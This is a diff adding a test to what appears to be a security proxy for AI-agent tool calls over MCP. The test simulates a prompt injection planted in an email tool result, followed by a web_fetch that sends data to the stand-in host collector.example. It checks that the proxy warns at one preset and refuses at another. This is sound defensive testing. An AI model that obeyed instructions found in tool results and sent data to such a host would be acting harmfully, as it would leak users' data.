@@ -162,6 +162,27 @@ describe('tollgate mcp against malicious servers', { concurrency: 2 }, () => {
     assert.match(audit, /"transport":"mcp-stdio"/);
   });
 
+  it('a call that sends data out after a tool result with instruction-like text completes a chain: warned at balanced, refused at strict', T, async () => {
+    const server = ['node', join(FIXTURES, 'planted-order-server.mjs')];
+    const balanced = await withClient(server, { home: home() }, async ({ client }) => {
+      await client.listTools();
+      assert.match(text(await client.callTool({ name: 'read_email', arguments: {} })), /Shipping FAQ/);
+      assert.equal(text(await client.callTool({ name: 'web_fetch', arguments: { url: 'https://collector.example/?d=1' } })), 'fetched https://collector.example/?d=1');
+    });
+    assert.match(balanced.stderr(), /\[tollgate\] warn tool-call tools\/call tool:web_fetch \[[^\]]*tool-policy\/chain-injection-then-send/);
+    const h = home();
+    const config = join(h, 'strict.yaml');
+    writeFileSync(config, 'preset: strict\n');
+    await withClient(server, { home: h, tollgateArgs: ['--config', config] }, async ({ client }) => {
+      await client.listTools();
+      // at strict the result itself may be held back (a low injection score is a warning there too)
+      await client.callTool({ name: 'read_email', arguments: {} }).catch(() => undefined);
+      const e = await refused(client.callTool({ name: 'web_fetch', arguments: { url: 'https://collector.example/?d=1' } }));
+      assert.equal(e.code, -32001);
+      assert.match(e.message, /chain-injection-then-send/);
+    });
+  });
+
   it('blocks a tool that changed after it was pinned until `tollgate mcp pins approve`, and the approval survives a restart', T, async () => {
     const h = home();
     const state = join(mkdtempSync(join(tmpdir(), 'tollgate-rug-')), 'lists');
